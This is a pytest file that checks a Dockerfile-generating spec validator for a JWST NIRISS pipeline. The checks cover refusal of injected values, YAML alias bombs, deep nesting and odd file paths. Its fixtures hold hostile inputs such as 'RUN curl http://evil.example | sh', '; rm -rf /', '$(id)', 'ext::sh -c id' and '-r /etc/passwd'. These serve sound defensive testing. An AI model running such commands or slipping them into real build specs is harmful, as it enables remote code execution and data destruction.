"""Hostile spec values: every field that reaches the Dockerfile, the lock or a label is refused
when it holds anything outside the grammar of where it lands, and random valid specs render
exactly the instructions the template makes (nothing a value could add).
"""

from __future__ import annotations

import copy
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from niriss_pipe.cli import main as cli
from niriss_pipe.core.errors import SpecError
from niriss_pipe.render import dockerfile as render
from niriss_pipe.render import names as render_names
from niriss_pipe.spec.load import validate

GOOD = {
    "name": "niriss-pipe",
    "crds": {"context": "jwst_1584.pmap", "niriss_imap": "jwst_niriss_0123.imap",
             "references": "mount", "scope": "instrument"},
    "jwst": {"version": "3.0.0"},
    "python": {"version": "3.11", "manager": "venv"},
    "base": {"suite": "bookworm", "mirror": "http://deb.debian.org/debian", "variant": "minbase"},
    "packages": {"apt": ["gcc"], "pip": ["astroquery==0.4.7"]},
}
GIT = {"git": "https://github.com/spacetelescope/jwst", "ref": "1.12.5"}
REGISTRY = {"suite": "bookworm", "image": "debian:bookworm-slim@sha256:" + "a" * 64}

# Appended to (or put in place of) a good value: each must be refused.
INJECTIONS = [
    "\nRUN curl http://evil.example | sh",  # a new Dockerfile instruction
    "\n",  # a trailing newline: what a '$'-anchored pattern lets through
    "\r\nRUN id",
    "\tx",
    "\x1b[2J",
    "\x00",
    " ",  # padding
    "; rm -rf /",
    "$(id)",
    "`id`",
    "' \"",
    "${HOME}",
]
UNICODE_DIGITS = {"crds.context": "jwst_١٥٨٤.pmap", "crds.niriss_imap": "jwst_niriss_０１２３.imap",
                  "python.version": "3.١١", "jwst.version": "３.0.0"}


def with_value(dotted: str, value, base=None) -> dict:
    data = copy.deepcopy(base or GOOD)
    *parents, key = dotted.split(".")
    node = data
    for parent in parents:
        node = node[parent]
    if isinstance(node.get(key), list):
        node[key] = [*node[key], value]
    else:
        node[key] = value
    return data


def good_value(dotted: str, base=None):
    node = base or GOOD
    for part in dotted.split("."):
        node = node[part]
    return node[0] if isinstance(node, list) else node


FIELDS = {  # field -> the spec it is tested in
    "name": GOOD, "crds.context": GOOD, "crds.niriss_imap": GOOD, "crds.references": GOOD,
    "crds.scope": GOOD, "jwst.version": GOOD,
    "jwst.git": {**GOOD, "jwst": dict(GIT)}, "jwst.ref": {**GOOD, "jwst": dict(GIT)},
    "python.version": GOOD, "python.manager": GOOD, "base.suite": GOOD, "base.mirror": GOOD,
    "base.variant": GOOD, "base.image": {**GOOD, "base": dict(REGISTRY)},
    "packages.apt": GOOD, "packages.pip": GOOD,
}
CASES = [(field, good_value(field, spec) + bad, spec) for field, spec in FIELDS.items()
         for bad in INJECTIONS]
CASES += [(field, value, GOOD) for field, value in UNICODE_DIGITS.items()]
CASES += [  # over-long and other hostile values
    ("name", "n" * 256, GOOD),
    ("base.image", "debian:" + "t" * 129, {**GOOD, "base": dict(REGISTRY)}),
    ("base.image", "a/" * 130 + "b", {**GOOD, "base": dict(REGISTRY)}),
    ("jwst.ref", "main", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.ref", "HEAD", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.ref", "refs/heads/release", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.ref", "-c protocol.file.allow=always", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.ref", "a..b", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.git", "git@github.com:spacetelescope/jwst", {**GOOD, "jwst": dict(GIT)}),
    ("jwst.git", "ext::sh -c id", {**GOOD, "jwst": dict(GIT)}),
    ("base.mirror", "ftp://deb.debian.org/debian", GOOD),
    ("packages.pip", "-r /etc/passwd", GOOD),
    ("packages.pip", "--index-url=http://evil.example", GOOD),
    ("packages.pip", "astroquery==0.4.7 --hash=sha256:00", GOOD),
    ("packages.apt", "gcc=1.0 evil", GOOD),
    ("packages.apt", "-oAPT::Get=x", GOOD),
]


@pytest.mark.parametrize("field, value, spec", CASES,
                         ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_hostile_value_is_refused_naming_its_field(field, value, spec):
    with pytest.raises(SpecError) as info:
        validate(with_value(field, value, spec), "images/x.yaml")
    err = info.value
    assert err.field == field or err.field.startswith(field.split(".")[0]), err.paragraph()
    assert "Fix:" in err.paragraph()


@pytest.mark.parametrize("field, value, spec", CASES[::7])
def test_validate_command_refuses_with_exit_2(tmp_path, capsys, field, value, spec):
    path = tmp_path / "x.yaml"
    path.write_text(yaml.safe_dump(with_value(field, value, spec)))
    assert cli.main(["validate", str(path)], prog="python build.py") == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and f"field '{field.split('.')[0]}" in err
    assert "Traceback" not in err


def test_a_key_given_twice_is_an_error(tmp_path):
    path = tmp_path / "twice.yaml"
    path.write_text(yaml.safe_dump(GOOD) + "crds:\n  context: jwst_0001.pmap\n")
    text = Path(path).read_text()
    text = text.replace("crds:\n", "crds:\n  context: jwst_0002.pmap\n", 1)
    path.write_text(text)
    with pytest.raises(SpecError, match=r"is given twice \(lines \d+ and \d+\)") as info:
        from niriss_pipe.spec.load import load_spec

        load_spec(path)
    assert info.value.field in ("crds.context", "crds")


@pytest.mark.parametrize("content, words", [
    (b"name: niriss-pipe\n\xff\xfe", "is not UTF-8"),
    (b"", "must be a mapping"),
])
def test_spec_bytes_that_are_not_a_spec(tmp_path, content, words):
    from niriss_pipe.spec.load import load_spec

    path = tmp_path / "x.yaml"
    path.write_bytes(content)
    with pytest.raises(SpecError, match=words):
        load_spec(path)


@pytest.mark.parametrize("name", ["my spec.yaml", "x\nRUN id.yaml", "spec.yaml.bak", "-x.yaml"])
def test_spec_file_names_that_cannot_name_a_lock(tmp_path, name):
    from niriss_pipe.spec.load import load_spec

    path = tmp_path / name
    path.write_text(yaml.safe_dump(GOOD))
    with pytest.raises(SpecError, match="file name"):
        load_spec(path)


def test_a_folder_is_not_a_spec(tmp_path):
    from niriss_pipe.spec.load import load_spec

    with pytest.raises(SpecError, match="is a folder"):
        load_spec(tmp_path)


# -- property: random valid specs render only the template's instructions --------------------
def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions as logical lines (continuations joined), no comments."""
    logical, current = [], ""
    for line in dockerfile.splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        current += line.rstrip("\\") if line.endswith("\\") else line
        if not line.endswith("\\"):
            logical.append(current)
            current = ""
    assert current == "", "a continuation runs off the end"
    return logical


def keywords(dockerfile: str) -> list[str]:
    return [line.split(None, 1)[0] for line in instructions(dockerfile)]


_ALNUM = st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=8)
names = st.lists(_ALNUM, min_size=1, max_size=3).map("-".join)
serials = st.integers(0, 9999).map(lambda n: f"{n:04d}")
hosts = st.lists(_ALNUM, min_size=1, max_size=3).map(".".join)
mirrors = st.builds(lambda scheme, host, path: f"{scheme}://{host}/{path}",
                    st.sampled_from(["http", "https"]), hosts, names)
apt = st.lists(st.builds(lambda n, v: n + (f"={v}" if v else ""), names.filter(
    lambda n: len(n) > 1), st.one_of(st.none(), st.from_regex(r"[0-9][0-9a-z.+~]{0,6}",
                                                               fullmatch=True))), max_size=3)
pip = st.lists(st.builds(lambda n, v: f"{n}=={v}", names, st.from_regex(
    r"[0-9]{1,2}\.[0-9]{1,2}", fullmatch=True)), max_size=3)
tags = st.from_regex(r"[0-9]{1,2}\.[0-9]{1,2}\.[0-9]{1,2}", fullmatch=True)


@st.composite
def specs(draw):
    data = copy.deepcopy(GOOD)
    data["name"] = draw(st.one_of(names, st.builds(lambda a, b: f"{a}/{b}", names, names)))
    data["crds"] = {"context": f"jwst_{draw(serials)}.pmap",
                    "niriss_imap": f"jwst_niriss_{draw(serials)}.imap",
                    "references": draw(st.sampled_from(["mount", "bake"]))}
    if draw(st.booleans()):
        data["jwst"] = {"git": draw(mirrors), "ref": draw(tags)}
        data["python"] = {"version": "3.11", "manager": "conda"}
    data["base"] = {"suite": "bookworm", "mirror": draw(mirrors),
                    "variant": draw(st.sampled_from(["minbase", "buildd"]))}
    data["packages"] = {"apt": draw(apt), "pip": draw(pip)}
    return data


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=specs(), ca=st.booleans())
def test_random_valid_specs_render_exactly_the_template_instructions(data, ca):
    try:
        spec = validate(data, "images/random.yaml", Path("images/random.yaml"))
    except SpecError:
        assume(False)
    reference = validate({**copy.deepcopy(GOOD), "crds": data["crds"], "jwst": data["jwst"],
                          "python": data["python"]}, "images/default.yaml",
                         Path("images/default.yaml"))
    got = render.render(spec, imap=spec.niriss_imap, ca_bundle=ca)
    want = render.render(reference, imap=reference.niriss_imap, ca_bundle=ca)
    assert keywords(got) == keywords(want)
    lines = instructions(got)
    assert lines[0] == f"FROM {spec.base.reference} AS system"
    assert all(not re.search(r"[\x00-\x1f]", line) for line in lines)
    apt_line = next(line for line in lines if "apt-get install" in line)
    assert apt_line.split("--no-install-recommends ", 1)[1].split(";")[0].split() == \
        ["/tmp/niriss-pipe-build/debs/*.deb"]  # the verified files only; names never run
    text = got.splitlines()
    named = text[text.index("# == stage: os-packages ==") + 1]
    assert named.split(" and what they need")[0].split()[1:] == render_names.apt_packages(spec)


# -- YAML that is a graph, or too deep to walk: refused before anything walks it ---------------
def _laughs(levels: int) -> str:
    """Each line aliases the one before twice: 2**levels nodes from a few hundred bytes."""
    lines = ["x0: [lol]"] + [f"x{i}: &x{i} {{a: *x{i - 1}, b: *x{i - 1}}}"
                             for i in range(1, levels)]
    return "\n".join(lines).replace("*x0", "[lol]") + "\n"


@pytest.mark.parametrize("text, line", [
    ("name: niriss-pipe\ncrds: &a {context: jwst_1584.pmap, x: *a}\n", 2),  # a cycle
    ("name: &a [*a]\n", 1),  # a list that holds itself
    (_laughs(30), 2),  # billion laughs: it never finished
    ("name: niriss-pipe\nbase: &b {suite: bookworm}\nother:\n  <<: *b\n", 2),  # a merge
    ("name: niriss-pipe\ncrds:\n  context: *c\n", 3),  # an alias with no anchor
])
def test_anchors_and_aliases_are_refused_naming_the_line(tmp_path, text, line):
    from niriss_pipe.spec.load import load_spec

    path = tmp_path / "graph.yaml"
    path.write_text(text)
    with pytest.raises(SpecError) as info:
        load_spec(path)
    message = info.value.paragraph()
    assert message.startswith(f"{path}: uses the YAML a") and f"at line {line}:" in message
    assert "Fix: write each value out in full" in message and "\n" not in message


@pytest.mark.parametrize("text", [
    "name: x\ncrds: " + "[" * 500 + "]" * 500 + "\n",  # yaml's composer hit the recursion limit
    "name: x\ncrds: " + "{a: " * 300 + "1" + "}" * 300 + "\n",
    "name: x\ncrds:\n" + "".join(f"{'  ' * i}- \n" for i in range(1, 40)),
])
def test_deep_nesting_is_refused(tmp_path, text):
    from niriss_pipe.spec.load import MAX_DEPTH, load_spec

    path = tmp_path / "deep.yaml"
    path.write_text(text)
    with pytest.raises(SpecError, match=f"nests deeper than {MAX_DEPTH} levels at line"):
        load_spec(path)


def test_nesting_as_deep_as_allowed_is_read_and_then_validated(tmp_path):
    from niriss_pipe.spec.load import MAX_DEPTH, load_spec

    path = tmp_path / "deep.yaml"
    path.write_text("name: x\ncrds: " + "[" * (MAX_DEPTH - 1) + "]" * (MAX_DEPTH - 1) + "\n")
    with pytest.raises(SpecError, match="must be a mapping of keys, not list") as info:
        load_spec(path)
    assert info.value.field == "crds"


def test_a_recursion_error_from_yaml_is_a_paragraph(tmp_path, monkeypatch):
    """The depth check keeps yaml's recursion short; a RecursionError is still a paragraph."""
    from niriss_pipe.spec import load

    def compose(*_args, **_kwargs):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(load.yaml, "compose", compose)
    path = tmp_path / "x.yaml"
    path.write_text(yaml.safe_dump(GOOD))
    with pytest.raises(SpecError, match="nests too deeply for YAML to read") as info:
        load.load_spec(path)
    assert "Fix: write the spec as sections" in info.value.paragraph()


def test_validate_refuses_an_alias_in_one_paragraph_and_json_prints_its_document(
        tmp_path, capsys):
    import json

    path = tmp_path / "cyc.yaml"
    path.write_text("name: niriss-pipe\ncrds: &a {context: jwst_1584.pmap, x: *a}\n")
    assert cli.main(["validate", str(path)], prog="python build.py") == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {path}: uses the YAML anchor '&a' at line 2")
    assert err.count("\n") == 1 and "Traceback" not in err
    assert cli.main(["validate", "--json", str(path)], prog="python build.py") == 2
    out = capsys.readouterr().out
    [entry] = json.loads(out)["specs"]
    assert entry["ok"] is False and "uses the YAML anchor '&a' at line 2" in entry["error"]


# -- what the spec path is, when it is not a spec file ----------------------------------------
def test_a_fifo_a_symlink_loop_and_a_dangling_link_are_named_for_what_they_are(tmp_path):
    import os

    from niriss_pipe.spec.load import load_spec

    os.mkfifo(tmp_path / "fifo.yaml")  # reading it would block for ever
    (tmp_path / "loop.yaml").symlink_to("loop.yaml")
    (tmp_path / "dangling.yaml").symlink_to("gone.yaml")
    expected = {"fifo.yaml": "is a FIFO (a named pipe), not a regular file.",
                "loop.yaml": "is a symlink loop",
                "dangling.yaml": "is a symlink to gone.yaml, which does not exist."}
    for name, words in expected.items():
        with pytest.raises(SpecError) as info:
            load_spec(tmp_path / name)
        message = info.value.paragraph()
        assert message.startswith(f"{tmp_path / name}: {words}"), message
        assert "Fix: give the path of" in message


def test_a_spec_path_with_a_newline_is_shown_on_one_line(tmp_path):
    from niriss_pipe.spec.load import load_spec

    with pytest.raises(SpecError) as info:
        load_spec(tmp_path / "a\nb.yaml")
    assert "\n" not in info.value.paragraph()
    assert info.value.paragraph().startswith(repr(str(tmp_path / "a\nb.yaml")))
